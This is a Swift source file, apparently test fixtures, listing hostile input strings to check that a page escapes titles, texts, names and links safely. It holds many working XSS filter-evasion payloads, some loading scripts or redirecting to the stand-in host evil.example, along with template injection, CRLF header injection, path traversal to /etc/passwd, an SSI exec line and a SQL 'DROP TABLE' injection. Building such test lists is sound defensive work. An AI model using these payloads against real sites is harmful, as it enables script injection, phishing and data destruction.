/// What strangers write into titles, texts, names and links to have a page do something: our own strings, one or
/// more for each class of the public lists of filter evasion.
enum Payloads {
    static let all: [String] =
        markup + generated + rare + encoded + attributes + links + markdown + invisible + structure

    /// Every tag that can run something, with every way to break the name or the quoting.
    private static let generated: [String] = {
        let tags = [
            "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee",
        ]
        let handlers = [
            "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "ONERROR", "oNeRrOr",
        ]
        return tags.flatMap { tag in handlers.map { "<\(tag) \($0)=alert(1)>" } }
    }()

    private static let markup = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<script\n>alert(1)</script\n>", "<script/src=data:,alert(1)>", "<<script>alert(1)//<</script>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=data:text/html,x>",
        "<embed src=//evil.example>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
        "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<form action=//evil.example><button>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<a href=javascript:alert(1)>x</a>",
        "<details/open/ontoggle=alert(1)>", "<svg/onload=alert`1`>", "<img src=x:alert(1) onerror=eval(src)>",
        "<p style=\"background:url(javascript:alert(1))\">", "<div style=width:expression(alert(1))>",
        "<xss tabindex=1 onfocus=alert(1) autofocus>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&amp;lt;script&amp;gt;", "＜script＞alert(1)＜/script＞", "\u{FF1C}img onerror=alert(1)\u{FF1E}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{{css}}}", "{{> page}}", "{{=<% %>=}}", "${alert(1)}", "<%= 7*7 %>",
    ]

    /// Elements that few remember, and what is left open on purpose.
    private static let rare = [
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1)>",
        "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x>",
        "<svg><foreignObject><body onload=alert(1)>", "<math href=javascript:alert(1)>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>",
        "<table background=javascript:alert(1)>", "<td background=javascript:alert(1)>", "<bgsound src=//evil.example>",
        "<layer src=//evil.example></layer>", "<xml id=x><i><b>x</b></i></xml>", "<frameset><frame src=//evil.example>",
        "<applet code=x.class>", "<portal src=//evil.example>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
        "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
        "<listing>&lt;img onerror=alert(1)&gt;</listing>",
        "<select><template><script>alert(1)</script>", "<keygen autofocus onfocus=alert(1)>",
        "<input type=image src=x onerror=alert(1)>", "<button formaction=javascript:alert(1)>x",
        "<a ping=//evil.example href=//evil.example>x</a>", "<img srcset='//evil.example/x.png 2x'>",
        "<video poster=javascript:alert(1)>", "<video><source onerror=alert(1)>", "<a id=stories name=toc>x</a>",
        "<form id=top><input name=parentNode>", "<img src='//evil.example/?", "<img src=x onerror=alert(1)//",
        "<iframe src=//evil.example <", "<script>a=\"", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--#exec cmd=\"/bin/ls\"-->", "<?php echo 1 ?>", "<xss style=\"behavior:url(x.htc)\">",
        "<p style=\"-moz-binding:url(//evil.example/x.xml)\">", "<style>@im\\port '\\//evil.example'</style>",
        "<meta http-equiv=Set-Cookie content='x=1'>", "<script type=importmap>{\"imports\":{}}</script>",
    ]

    /// The same again for whoever decodes once too often, or with another encoding.
    private static let encoded = [
        "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "\\x3cscript\\x3ealert(1)", "\\74script\\76",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(1)¼/script¾", "&#0000060script&#0000062",
        "&#x000003C;script&#x000003E;", "&LT;script&GT;", "&lt;/style&gt;&lt;script&gt;",
        "&NewLine;&Tab;javascript&colon;x",
        "\";alert(1);//", "';alert(String.fromCharCode(88))//", "\\';alert(1);//", "</script><script>alert(1)//",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<img/\u{c}src/onerror=alert(1)>", "<\u{130}mg src=x onerror=alert(1)>",
        "\u{2039}script\u{203A}alert(1)", "\u{FE64}script\u{FE65}alert(1)",
    ]

    private static let attributes = [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\"\u{0301} onmouseover=alert(1) x=\"\u{0301}", "'\u{20DD} onclick=alert(1) '", "` onmouseover=alert(1) `",
        "\" style=\"x:expression(alert(1))",
        "\" autofocus onfocus=alert(1) x=\"", "\"/><svg onload=alert(1)>", "x\tonclick=alert(1)",
        "\" tabindex=0 onkeydown=alert(1) \"",
        "<\u{0338}script>alert(1)</script>", "&\u{0301}quot; onload=alert(1)", ">\u{0301}<img src=x onerror=alert(1)>",
    ]

    static let links = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\u{1}javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "jav&#x09;ascript:alert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "file:///etc/passwd",
        "feed:javascript:alert(1)", "view-source:x", "blob:https://evil.example/1", "//evil.example/x",
        "https:javascript:alert(1)",
        "https://ok.example/\" onmouseover=\"alert(1)", "https://ok.example/'><script>alert(1)</script>",
        "https://ok.example/\u{202E}gpj.exe",
        "https://ok.example/a)b(javascript:alert(1)", "https://ok.example/>x<javascript:alert(1)",
        "https://ok.example\\@evil.example/",
        "http://", "mailto:", "about:blank", "ftp://ok.example/", "https://ok.example/?a=&copy;&lt=1",
        "https://ok.example/`x`",
        "intent://x#Intent;scheme=javascript;end", "x-javascript:alert(1)", "JAVASCRIPT\u{0}:alert(1)",
        "wss://ok.example/",
    ]

    private static let markdown = [
        "[x](javascript:alert(1))", "![x](javascript:alert(1))", "![x](https://evil.example/pixel.gif)",
        "[x]: javascript:alert(1)", "<javascript:alert(1)>",
        "](javascript:alert(1))[", "](<javascript:alert(1)>)", "`</code><script>alert(1)</script>`",
        "**bold** _em_ ~~strike~~ `code`", "# heading", "- list",
        "1. one", "1) one", "> quote", "---", "***", "===", "| a | b |", "| --- |", "```js", "~~~", "    code",
        "+ plus", "* star", "\\", "ends with \\",
        "a<br>b", "<https://auto.example>", "[^1]: note", ":::warning", "$x^2$", "$$", "[[wiki]]",
        "&copy; &amp; &#35; &unknown;", "!", "a!", "[x][y]", "[ ] todo",
    ]

    private static let invisible = [
        "\u{202E}txt.exe", "\u{2066}a\u{2069}b", "a\u{200B}b", "\u{FEFF}bom", "\u{200F}\u{200E}\u{061C}marks",
        "\u{1B}[31mred\u{7}", "\u{9B}31m", "nul\u{0}nul",
        "\u{85}next", "line\u{2028}separator\u{2029}", "\u{E0001}tag",
        "Z\u{0311}\u{0312}\u{0313}\u{0314}\u{0315}\u{0316}\u{0317}\u{0318}\u{0319}a", "\u{3164}",
        String(decoding: [0xEF, 0xBF, 0xBE], as: UTF8.self),
    ]

    private static let structure = [
        "]]>", "-->", "<!--", "\r\nBcc: all@evil.example", "\r\n\r\n--=_sheaf_2025-01-18\r\n",
        "=?utf-8?B?PHNjcmlwdD4=?=", "title: \"x\"\n---\n", "---\n", "\"\n}", "\\u003cscript\\u003e",
        "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "&entity;", "%0d%0aSet-Cookie:x",
        "../../etc/passwd", "'; DROP TABLE story; --",
    ]
}
